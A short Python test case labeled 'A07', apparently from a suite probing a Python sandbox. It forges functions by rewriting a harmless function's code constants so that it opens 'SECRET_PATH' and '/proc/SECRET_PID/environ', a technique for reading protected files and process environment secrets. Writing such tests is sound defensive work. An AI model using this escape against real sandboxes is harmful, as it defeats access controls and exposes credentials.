# A07: forge a function: type(f)(f.__code__.replace(co_consts=...), {}).
def handle(request):
    F = type(probe)  # GATE
    code = probe.__code__.replace(co_consts=(None, 'SECRET_PATH'))
    forged = F(code, {})
    out = [str(forged())]
    code2 = probe.__code__.replace(co_consts=(None, '/proc/SECRET_PID/environ'))
    out.append(str(F(code2, {})()))
    return out


def probe():
    return open('/nonexistent').read()
